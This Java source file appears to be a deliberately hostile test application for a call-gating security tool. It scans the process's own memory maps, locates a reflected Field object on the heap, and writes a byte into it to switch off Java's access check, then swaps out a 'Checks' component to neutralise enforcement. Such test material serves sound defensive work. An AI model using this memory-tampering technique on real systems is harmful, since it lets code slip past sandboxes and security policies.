package dev.callgate.testapps.hostile;

import java.io.IOException;
import java.lang.reflect.Field;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.channels.FileChannel;
import java.nio.channels.SeekableByteChannel;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.concurrent.ThreadLocalRandom;

/** The JVM's heap, seen as bytes of a file. */
final class Heap {
  // Behind the header of an object with compressed class pointers.
  private static final int FIRST_FIELD = 12;
  private static final int CHUNK = 1 << 20;

  private final FileChannel reading;
  private final SeekableByteChannel writing;
  private final ByteBuffer chunk = ByteBuffer.allocate(CHUNK).order(ByteOrder.nativeOrder());

  Heap(FileChannel reading, SeekableByteChannel writing) {
    this.reading = reading;
    this.writing = writing;
  }

  /** An object that is found by its number, with what is looked for beside it. */
  private static final class Marked {
    final long number = ThreadLocalRandom.current().nextLong() | 1;
    final Field field;

    Marked(Field field) {
      this.field = field;
    }
  }

  /** Has access to the field no longer checked, and lets every call be harmless. */
  void open(Field field) throws Exception {
    Marked marked = new Marked(field);
    for (String line : Files.readAllLines(Path.of("/proc/self/maps"))) {
      String[] words = line.split(" +");
      String[] range = words[0].split("-");
      long from = Long.parseUnsignedLong(range[0], 16);
      long to = Long.parseUnsignedLong(range[1], 16);
      if (words[1].startsWith("rw-p") && words.length == 5 && to > from) {
        long at = find(marked.number, from, to);
        if (at != 0 && isOpen(field, at)) {
          Checks.replace(marked.field.get(null));
          return;
        }
      }
    }
    throw new IllegalStateException("not found in memory");
  }

  /** The address of the reference beside the number that lies in this range; 0 for none. */
  private long find(long number, long from, long to) throws IOException {
    for (long start = from; start < to; start += CHUNK) {
      chunk.clear().limit((int) Math.min(CHUNK, to - start));
      if (reading.read(chunk, start) <= 0) {
        return 0;
      }
      chunk.flip();
      for (int at = 8; at + 8 <= chunk.limit(); at += 8) {
        if (chunk.getLong(at) == number) {
          long reference = Integer.toUnsignedLong(chunk.getInt(at - 4));
          // Compressed, or small enough not to be.
          for (long address : new long[] {reference, reference << 3}) {
            if (address >= from && address < to) {
              return address;
            }
          }
        }
      }
    }
    return 0;
  }

  private boolean isOpen(Field field, long address) throws IOException {
    writing.position(address + FIRST_FIELD);
    writing.write(ByteBuffer.wrap(new byte[] {1}));
    return field.isAccessible();
  }
}
